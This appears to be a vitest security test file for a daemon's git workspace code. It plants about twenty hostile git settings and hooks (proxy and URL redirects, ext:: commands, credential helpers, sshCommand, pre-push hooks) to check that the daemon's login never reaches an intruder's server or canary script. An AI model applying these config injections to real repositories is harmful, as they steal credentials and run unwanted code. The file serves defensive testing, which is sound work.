import { execFile } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import type { GitWorkspaces } from '../../../src/adapters/git/workspaces.ts';
import { type HttpRemote, serveGit } from '../../support/forge/serve-git.ts';
import { type GitWorld, makeGitWorld, NEVER } from '../../support/git/git-workspaces.ts';

/*
 * A worker types settings, hooks and addresses into the repository that it shares with the daemon. Then the daemon fetches and pushes
 * with its login. Each attack has a canary: a server of the intruder's that must hear nothing, a program that must not run.
 * Its twin runs plain git in the same repository, as a daemon without the safeguard would, and sees the canary sound.
 */

const LOGIN = { user: 'x-access-token', password: 'secret-token' };
const HEADER = `Basic ${Buffer.from(`${LOGIN.user}:${LOGIN.password}`).toString('base64')}`;

let world: GitWorld;
let remote: HttpRemote;
/** Of the intruder: on the same port of another address, so that a name can be led there. */
let tripwire: HttpRemote;
let canary: string;
let program: string;
let spaces: GitWorkspaces;
const address = (): string => remote.url.replace('127.0.0.1', 'localhost');
const port = (): string => new URL(remote.url).port;

beforeEach(async () => {
  world = makeGitWorld({ remote: true });
  remote = await serveGit(world.home, HEADER);
  tripwire = await serveGit(world.home, 'nobody', { host: '127.0.0.2', port: Number(port()) });
  world.git(['config', 'http.receivepack', 'true'], world.remote ?? '');
  world.git(['remote', 'set-url', 'origin', address()]);
  canary = join(world.home, 'canary');
  program = join(world.home, 'program.sh');
  writeFileSync(program, `#!/bin/sh\nenv > ${canary}\nexit 1\n`);
  chmodSync(program, 0o755);
  const login = { host: `localhost:${port()}`, user: LOGIN.user, password: async () => LOGIN.password };
  spaces = world.again({ login, fetchFreshMs: 0 });
  await spaces.ensure(world.task, NEVER);
});
afterEach(async () => {
  await Promise.all([remote.close(), tripwire.close()]);
  world.remove();
});

/** Typed in the worktree. */
const set = (...settings: readonly (readonly [string, string])[]): void => {
  for (const [key, value] of settings) world.git(['config', key, value], world.tree);
};
const hook = (name: string): void => {
  mkdirSync(join(world.root, '.git/hooks'), { recursive: true });
  writeFileSync(join(world.root, '.git/hooks', name), readFileSync(program));
  chmodSync(join(world.root, '.git/hooks', name), 0o755);
};
const include = (text: string): void => {
  writeFileSync(join(world.home, 'more'), text);
  set(['include.path', join(world.home, 'more')]);
};

const ATTACKS: readonly (readonly [what: string, attack: () => void])[] = [
  ['remote.origin.url', () => set(['remote.origin.url', tripwire.url])],
  ['remote.origin.pushurl', () => set(['remote.origin.pushurl', tripwire.url])],
  ['url.*.insteadOf', () => set([`url.${tripwire.url}.insteadOf`, address()])],
  ['url.*.pushInsteadOf', () => set([`url.${tripwire.url}.pushInsteadOf`, address()])],
  ['http.proxy', () => set(['http.proxy', tripwire.url])],
  ['http.<url>.proxy', () => set([`http.${address()}.proxy`, tripwire.url])],
  ['remote.origin.proxy', () => set(['remote.origin.proxy', tripwire.url])],
  ['http.curloptResolve', () => set(['http.curloptResolve', `localhost:${port()}:127.0.0.2`])],
  ['include.path', () => include(`[http]\n\tproxy = ${tripwire.url}\n`)],
  [
    'config.worktree',
    () => {
      set(['extensions.worktreeConfig', 'true']);
      writeFileSync(join(world.root, '.git/config.worktree'), `[http]\n\tproxy = ${tripwire.url}\n`);
      writeFileSync(join(world.root, '.git/worktrees/gh-1/config.worktree'), `[http]\n\tproxy = ${tripwire.url}\n`);
    },
  ],
  ['an ext:: address', () => set(['protocol.ext.allow', 'always'], ['remote.origin.url', `ext::${program}`])],
  ['an ext:: address by insteadOf', () => set(['protocol.ext.allow', 'always'], [`url.ext::${program} .insteadOf`, address()])],
  ['core.sshCommand', () => set(['core.sshCommand', program], ['remote.origin.url', 'ssh://localhost:1/x'])],
  ['core.askPass', () => set(['core.askPass', program], ['http.extraHeader', 'X: y'])],
  ['credential.helper', () => set(['credential.helper', `!${program}`])],
  ['credential.<url>.helper', () => set([`credential.http://localhost:${port()}.helper`, `!${program}`])],
  ['http.cookieFile', () => set(['http.cookieFile', canary], ['http.saveCookies', 'true'])],
  ['remote.origin.receivepack', () => set(['remote.origin.url', world.remote ?? ''], ['remote.origin.receivepack', program])],
  ['core.hooksPath', () => set(['core.hooksPath', join(world.root, '.git/hooks')])],
  ['a pre-push hook', () => hook('pre-push')],
  ['a reference-transaction hook', () => hook('reference-transaction')],
];

/** As a person types it in the worktree. The servers are in this process, so that it is not waited for synchronously; it may fail. */
async function plainGit(args: readonly string[], more: Readonly<Record<string, string>> = {}): Promise<void> {
  const env = { PATH: process.env.PATH ?? '', HOME: join(world.home, 'home'), GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0', ...more };
  await promisify(execFile)('git', [...args], { cwd: world.tree, env, timeout: 15_000 }).catch(() => undefined);
}

/** Did the intruder hear of it? */
const sounded = (): boolean => existsSync(canary) || tripwire.seen.length > 0;

describe.each(ATTACKS)('%s', (what, attack) => {
  beforeEach(() => {
    if (what === 'core.hooksPath') hook('pre-push');
    world.commit('Work', { 'a.txt': 'a' }, world.tree);
    attack();
  });

  test('the daemon goes where it always went, and nobody else hears of it', async () => {
    expect(await spaces.refresh()).toBeNull();
    const { commit } = await spaces.push(world.task, NEVER);
    expect(world.git(['rev-parse', 'auto/gh-1'], world.remote ?? '')).toBe(commit);
    expect(sounded()).toBe(false);
  });

  test('twin: plain git is led astray', async () => {
    const header = what === 'core.askPass' || what.startsWith('credential') ? [] : ['-c', `http.extraHeader=Authorization: ${HEADER}`];
    if (what === 'http.cookieFile') remote.cookie = 'a=b';
    await plainGit([...header, 'push', 'origin', 'auto/gh-1']);
    await plainGit([...header, 'fetch', 'origin']);
    expect(sounded()).toBe(true);
  });
});

test('while git talks to the remote, no environment, no command line and no file shows the login', async () => {
  world.commit('Work', { 'a.txt': 'a' }, world.tree);
  const secrets = [LOGIN.password, HEADER.slice('Basic '.length)];
  const found: string[] = [];
  remote.onRequest = () => {
    for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && name !== `${process.pid}`)) {
      for (const file of ['environ', 'cmdline']) {
        const text = tryRead(`/proc/${pid}/${file}`);
        if (secrets.some((secret) => text.includes(secret))) found.push(`${pid} ${file}`);
      }
    }
    const files = world.tryGit(['grep', '--no-index', '-l', '-e', secrets[0] ?? '', '-e', secrets[1] ?? '', '--', world.root], world.home);
    if (files.code === 0) found.push(files.out);
  };
  await spaces.push(world.task, NEVER);
  expect(remote.seen.some(({ authorization }) => authorization === HEADER)).toBe(true);
  expect(found).toEqual([]);
});

/** Every way in which git can be told to write down what it does: by variables, and by settings of the person, of all and of a worktree. */
const tracedBy = (folder: string): { readonly variables: Readonly<Record<string, string>>; readonly settings: string } => {
  const all = ['GIT_TRACE', 'GIT_TRACE_CURL', 'GIT_TRACE_PACKET', 'GIT_TRACE2', 'GIT_TRACE2_EVENT', 'GIT_TRACE2_PERF', 'GIT_TRACE_SETUP'];
  return {
    variables: {
      ...Object.fromEntries(all.map((name) => [name, join(folder, name)])),
      ...{ GIT_TRACE_REDACT: '0', GIT_TRACE2_CONFIG_PARAMS: '*' },
      GIT_TRACE2_ENV_VARS: '*,GIT_CONFIG_VALUE_0,GIT_CONFIG_VALUE_1,GIT_CONFIG_PARAMETERS',
    },
    settings: `[trace2]\n\tnormalTarget = ${folder}/normal\n\tperfTarget = ${folder}/perf\n\teventTarget = ${folder}/event\n\tconfigParams = *\n\tenvVars = *\n`,
  };
};

test('no trace that variables, the person’s settings or the shared ones ask for shows the login; twin: plain git’s do', async () => {
  world.commit('Work', { 'a.txt': 'a' }, world.tree);
  const secrets = [LOGIN.password, HEADER.slice('Basic '.length)];
  const traces = join(world.home, 'traces');
  mkdirSync(traces);
  const { variables, settings } = tracedBy(traces);
  const person = join(world.home, 'person');
  mkdirSync(person);
  writeFileSync(join(person, '.gitconfig'), settings);
  writeFileSync(join(world.root, '.git/config.worktree'), settings);
  set(['extensions.worktreeConfig', 'true'], ['include.path', join(person, '.gitconfig')]);
  // Beside the git that holds the login, where a worker without a sandbox can write.
  writeFileSync(join(world.root, '.tac8/git/gitconfig'), settings, { flag: 'a' });
  for (const [name, value] of Object.entries({ ...variables, HOME: person })) vi.stubEnv(name, value);
  const told = (): readonly string[] =>
    readdirSync(traces).filter((name) => secrets.some((secret) => readFileSync(join(traces, name), 'latin1').includes(secret)));
  try {
    const login = { host: `localhost:${port()}`, user: LOGIN.user, password: async () => LOGIN.password };
    const anew = world.again({ login, fetchFreshMs: 0, useUserGitConfig: true });
    for (const each of [spaces, anew]) expect(await each.refresh()).toBeNull();
    const { commit } = await anew.push(world.task, NEVER);
    expect(world.git(['rev-parse', 'auto/gh-1'], world.remote ?? '')).toBe(commit);
    expect(told()).toEqual([]);
    for (const more of [{ HOME: person }, variables])
      await plainGit(['-c', `http.extraHeader=Authorization: ${HEADER}`, 'fetch', 'origin'], more);
    expect(told()).toEqual(expect.arrayContaining(['GIT_TRACE2_EVENT', 'GIT_TRACE_CURL', 'event', 'normal']));
  } finally {
    vi.unstubAllEnvs();
  }
});

function tryRead(path: string): string {
  try {
    return readFileSync(path, 'latin1');
  } catch {
    // Ended meanwhile, or of another user.
    return '';
  }
}
